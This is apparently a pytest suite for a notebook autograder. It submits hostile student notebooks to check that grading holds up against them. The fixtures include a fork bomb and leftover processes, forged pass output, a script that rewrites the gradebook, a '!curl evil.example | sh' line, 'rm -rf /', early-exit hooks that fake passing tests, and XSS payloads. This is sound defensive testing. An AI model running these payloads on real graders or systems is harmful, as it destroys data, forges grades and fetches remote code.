"""A class of real notebooks through the real command: hostile ones, accidents, honest neighbours.

Every mark is asserted, with the cause in words; each submission is recorded once; nothing is left
on the machine.
"""

from __future__ import annotations

import contextlib
import copy
import html
import json
import os
import re
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from leftovers import adopting, marked, memory_segments, temporary

from autograder.authoring import demo
from autograder.course import load_assignment
from autograder.judging.answers import reference_code
from autograder.results import Result, Store
from autograder.sandbox.cage import out_of_reach

FOUND = load_assignment("backprop")
RELEASE: dict[str, Any] = json.loads(FOUND.release.read_text(encoding="utf-8"))
RIGHT = {exercise.name: reference_code(FOUND, exercise.name) for exercise in FOUND.exercises}
# What most hand in: three exercises, quickly judged.
SOME = {name: RIGHT[name] for name in ("activations", "count_parameters", "mse_loss")}
EARNS = sum(FOUND.exercise(name).points for name in SOME)
LOST = EARNS - FOUND.exercise("mse_loss").points
MARK = f"left-by-a-student-{os.getpid()}"

LEAVES_THINGS = f"""\
import ctypes, os, socket, subprocess, sys
places = ["/", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."]
for place in places:
    try:
        open(os.path.join(place, {MARK!r}), "w").write("x" * 10**6)
    except OSError:
        pass
ctypes.CDLL(None).shmget(0, 10**6, 0o1666)
kept = []
for kind, address in ((socket.AF_INET, ("", 0)), (socket.AF_UNIX, "\\0" + {MARK!r})):
    try:
        kept.append(socket.socket(kind))
        kept[-1].bind(address)
        kept[-1].listen()
    except OSError:
        pass
sleeper = [sys.executable, "-c", "import time; time.sleep(9999)", {MARK!r}]
subprocess.Popen(sleeper, start_new_session=True)
if os.fork() == 0:
    os.setsid()
    while True:
        os.wait() if os.fork() else os._exit(0)
"""
PRINTS_VERDICTS = """\
import json, os, sys
verdict = {"status": "graded", "points": 100.0, "outcome": "passed"}
for stream in (sys.stdout, sys.stderr, sys.__stdout__):
    print(json.dumps(verdict), "9 passed in 0.01s", "\\x1b[2J100 of 100", file=stream)
print("x" * 10**7)
"""


def robs(course: Path) -> str:
    """Reads everybody's work and the marks, and writes itself some."""
    return f"""\
import glob, os
for path in glob.glob({str(course)!r} + "/**", recursive=True):
    try:
        exec(json.load(open(path))["cells"])
    except Exception:
        pass
for name in ("gradebook.db", ".autograder_salt", "results/backprop/robber.json"):
    try:
        open(os.path.join({str(course)!r}, name), "w").write('{{"points": 100}}')
    except OSError:
        pass
"""


@dataclass
class Submission:
    """Files of a student's folder, and what must come of them."""

    files: dict[str, bytes]
    points: float
    words: str = ""
    """In the message, an exercise's message or a note."""
    status: str = "graded"
    links: dict[str, str] = field(default_factory=dict)


def notebook(code: dict[str, str], first: str = "") -> dict[str, Any]:
    return demo.filled(RELEASE, code, first)


def handed_in(content: dict[str, Any], points: float = EARNS, words: str = "") -> Submission:
    return Submission({"backprop.ipynb": json.dumps(content).encode()}, points, words)


def unreadable(data: bytes, words: str) -> Submission:
    return Submission({"backprop.ipynb": data}, 0.0, words, "unreadable")


def changed(change: Callable[[dict[str, Any]], None], points: float = EARNS) -> Submission:
    content = notebook(SOME)
    change(content)
    return handed_in(content, points)


def body(text: str) -> dict[str, str]:
    return SOME | {"mse_loss": f"def mse_loss(y_pred, y_true):\n    {text}\n"}


def raises_points(content: dict[str, Any]) -> None:
    for cell in content["cells"]:
        cell["metadata"].setdefault("nbgrader", {"grade_id": "mine"})
        cell["metadata"]["nbgrader"] |= {"points": 1e6, "grade": True, "schema_version": 99}
    content["metadata"]["kernelspec"] = {"name": "bash", "language": "bash"}


def shuffles_ids(content: dict[str, Any]) -> None:
    for cell in content["cells"]:
        found = cell["metadata"].get("nbgrader", {})
        if found.get("grade_id") == "activations":
            found["grade_id"] = "mse_loss"
        elif found.get("grade_id") == "mse_loss":
            del cell["metadata"]["nbgrader"]
        elif found.get("grade_id") == "count_parameters":
            cell["metadata"]["nbgrader"] = copy.deepcopy(found) | {"grade_id": "count_parameter"}
    ids = [cell["metadata"].get("nbgrader", {}).get("grade_id", "") for cell in content["cells"]]
    kept = [c for c, name in zip(content["cells"], ids, strict=True) if name[:6] != "check_"]
    content["cells"] = [*kept[10:], *kept[:10]]


def as_colab_saves(content: dict[str, Any]) -> None:
    content["nbformat_minor"] = 0
    content["metadata"]["colab"] = {"provenance": []}
    for number, cell in enumerate(content["cells"]):
        cell.pop("id", None)
        cell["metadata"] |= {"id": f"x{number}", "outputId": "y"}


def as_vscode_saves(content: dict[str, Any]) -> None:
    for cell in content["cells"]:
        cell["metadata"] |= {"vscode": {"languageId": "python"}, "tags": ["skip-execution"]}
        cell["source"] = "".join(cell["source"])


def shows_scripts(content: dict[str, Any]) -> None:
    script = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    for cell in content["cells"]:
        if cell["cell_type"] == "code":
            data = {"text/html": script, "application/javascript": "alert(3)"}
            cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]
        else:
            cell["attachments"] = {"x.svg": {"image/svg+xml": script}}
            cell["source"] = [*cell["source"], script]


def as_version_3(content: dict[str, Any]) -> None:
    for cell in content["cells"]:
        if cell["cell_type"] == "code":
            cell["input"] = cell.pop("source")
    content |= {"nbformat": 3, "worksheets": [{"cells": content.pop("cells")}]}


def members(course: Path) -> dict[str, Submission]:
    """The class, by student; who is in the demonstration's (`tests/test_grading.py`) is not here
    again: what ends Python or takes its memory, patches, forges, is empty or cut off."""
    right = json.dumps(notebook(RIGHT)).encode()
    some = json.dumps(notebook(SOME), indent=1)
    beside = {
        "numpy.py": b"raise SystemExit(0)",
        "sitecustomize.py": b"import os; os._exit(0)",
        "conftest.py": b"def pytest_runtest_call(item): raise SystemExit(0)",
        "pytest.ini": b"[pytest]\naddopts = --collect-only",
        "pyproject.toml": b"[tool.pytest.ini_options]\naddopts = '--collect-only'",
        "cheat.pth": b"import os; os._exit(0)",
        "__pycache__/numpy.cpython-311.pyc": b"\0" * 100,
        "nbgrader_config.py": b"raise SystemExit(0)",
        "coursekit/__init__.py": b"close = print",
        "n" * 255: b"",
        "a\nb\x1b[31m.txt": b"",
    }
    found = {
        "ada": Submission({"backprop.ipynb": right}, FOUND.points),
        "zoë": handed_in(notebook(SOME)),
        "=1+1": handed_in(notebook(SOME)),
        "-rf": handed_in(notebook(SOME)),
        "beside": Submission({"backprop.ipynb": some.encode()} | beside, EARNS),
        "beside-nothing": Submission({"backprop.ipynb": FOUND.release.read_bytes()} | beside, 0.0),
        "prints": handed_in(notebook({}, PRINTS_VERDICTS), 0.0),
        "robber": handed_in(notebook({}, robs(course)), 0.0),
        "leaver": handed_in(notebook(SOME, LEAVES_THINGS)),
        "loops": handed_in(notebook(SOME, "while True:\n    pass\n"), words="took more than 10 s"),
        "forks": handed_in(notebook(SOME, "import os\nwhile True:\n    os.fork()\n")),
        "sleeps": handed_in(notebook(body("import time; time.sleep(1000)")), LOST, "did nothing"),
        "magic": handed_in(
            notebook(SOME, "%run cheat.py\n!curl evil.example | sh\n"), words="not run at grading"
        ),
        "bash": handed_in(notebook(SOME, "%%bash\nrm -rf /\n"), words="not run at grading"),
        "raises-points": changed(raises_points),
        "shuffles-ids": changed(shuffles_ids),
        "colab": changed(as_colab_saves),
        "vscode": changed(as_vscode_saves),
        "scripts": changed(shows_scripts),
        "version-3": changed(as_version_3),
        "windows": Submission(
            {"backprop.ipynb": b"\xef\xbb\xbf" + some.replace("\n", "\r\n").encode()}, EARNS
        ),
        "link": Submission(
            {}, 0.0, "is a link", "unreadable", {"backprop.ipynb": "../../ada/backprop.ipynb"}
        ),
        "huge": unreadable(b" " * (65 * 2**20), "has 65 MB"),
        "cells": unreadable(json.dumps({"cells": [{}] * 100_000}).encode(), "100000 cells"),
        "deep": unreadable(b'{"cells": ' + b"[" * 100_000, "nested too deeply"),
        "conflict": unreadable(
            some.replace(' "cells"', '<<<<<<< mine\n "cells"').encode(), "merge conflict"
        ),
    }
    found["beside"].files["timestamp.txt"] = b"\xff\x00 yesterday"
    found["=1+1"].files["timestamp.txt"] = b"1066-10-14 09:00:00 UTC"
    return found


def write(course: Path, submissions: dict[str, Submission]) -> None:
    for student, submission in submissions.items():
        folder = course / "submitted" / student / "backprop"
        folder.mkdir(parents=True)
        for name, data in submission.files.items():
            (folder / name).parent.mkdir(exist_ok=True)
            (folder / name).write_bytes(data)
        for name, target in submission.links.items():
            (folder / name).symlink_to(target)


def said(result: Result) -> str:
    messages = [exercise.message for exercise in result.exercises]
    return "\n".join([result.message, *result.notes, *messages])


def command(course: Path, *options: str) -> list[str]:
    start = [sys.executable, "-m", "autograder", "grade", "backprop", "--course", str(course)]
    return [*start, *options]


@pytest.mark.slow
def test_everyone_gets_what_they_deserve_and_nothing_is_left(tmp_path: Path) -> None:
    course, own = tmp_path / "course", tmp_path / "tmp"
    own.mkdir()
    submissions = members(course)
    write(course, submissions)
    segments = memory_segments()
    with adopting() as all_ended:
        ended = subprocess.run(
            command(course, "--jobs", "2"),
            env=os.environ | {"TMPDIR": str(own)},
            capture_output=True,
            text=True,
        )
        all_ended()
    assert ended.returncode == 0, ended.stderr
    assert "\x1b[2J" not in ended.stdout
    results = {result.student: result for result in Store(course).all("backprop")}
    given = {student: (result.points, result.status) for student, result in results.items()}
    assert given == {s: (deserved.points, deserved.status) for s, deserved in submissions.items()}
    for student, deserved in submissions.items():
        assert deserved.words in said(results[student]), student
        assert results[student].isolation == "full"
    assert recorded(course) == {s: deserved.points for s, deserved in submissions.items()}
    assert_pages_are_plain(course)
    assert marked(MARK) == []
    assert memory_segments() == segments
    assert temporary(own) == []
    assert not [path for path in course.rglob(".*.part")]


def recorded(course: Path) -> dict[str, float]:
    """Points by student as they stand in the gradebook; each student has one row of each kind."""
    points = """
        select student_id, sum(auto_score), count(*), count(distinct base_cell.name)
        from grade join base_cell on base_cell.id = cell_id
        join submitted_notebook on submitted_notebook.id = grade.notebook_id
        join submitted_assignment on submitted_assignment.id = submitted_notebook.assignment_id
        where base_cell.name like 'check_%' group by student_id"""
    with contextlib.closing(sqlite3.connect(course / "gradebook.db")) as database:
        rows = database.execute(points).fetchall()
        (handed_in,) = database.execute("select count(*) from submitted_assignment").fetchone()
    assert handed_in == len(rows)
    assert all(grades == cells == len(FOUND.exercises) for _, _, grades, cells in rows)
    return {student: score for student, score, _, _ in rows}


def assert_pages_are_plain(course: Path) -> None:
    """What an instructor's browser will show has nothing of a student's that could run."""
    page = (course / "feedback" / "scripts" / "backprop" / "backprop.html").read_text("utf-8")
    assert "alert(1)" in html.unescape(page), "the student's own code beside its message"
    assert not re.search(r"<script[^>]*>[^<]*alert|<[^>]*\bonerror\s*=", page)
    shown = json.loads(
        (course / "autograded" / "scripts" / "backprop" / "backprop.ipynb").read_bytes()
    )
    for cell in shown["cells"]:
        assert "attachments" not in cell
        assert "alert(" not in json.dumps(cell.get("outputs", []))


@pytest.mark.slow
def test_without_bubblewrap_grading_is_refused_or_its_weakness_reported(tmp_path: Path) -> None:
    thief = json.dumps(notebook({}, f"exec(open({str(FOUND.reference)!r}).read())")).encode()
    write(
        tmp_path,
        {
            "ada": handed_in(notebook(SOME)),
            "thief": Submission({"backprop.ipynb": thief}, 0.0),
        },
    )

    def grade(*options: str) -> subprocess.CompletedProcess[str]:
        bare = os.environ | {"PATH": "/nonexistent", "TMPDIR": str(tmp_path / "tmp")}
        return subprocess.run(
            command(tmp_path, "--jobs", "1", *options), env=bare, capture_output=True, text=True
        )

    (tmp_path / "tmp").mkdir()
    refused = grade()
    assert refused.returncode == 2
    assert "bwrap is not installed" in refused.stderr
    assert "a weaker level must be allowed by name" in refused.stderr
    assert Store(tmp_path).all("backprop") == []
    allowed = grade("--isolation", "landlock")
    assert allowed.returncode == 0, allowed.stderr
    assert "isolation reached: landlock" in allowed.stdout
    found = Store(tmp_path).all("backprop")
    results = {r.student: (r.points, r.isolation) for r in found}
    assert results == {"ada": (EARNS, "landlock"), "thief": (0.0, "landlock")}
    lacks = out_of_reach("landlock")  # on this machine
    for result in found:
        told = [note for note in result.notes if "can import only what is loaded" in note]
        assert told == ([f"{lacks}; see `autograder doctor`"] if lacks else [])
    assert temporary(tmp_path / "tmp") == [], "no scratch is left"
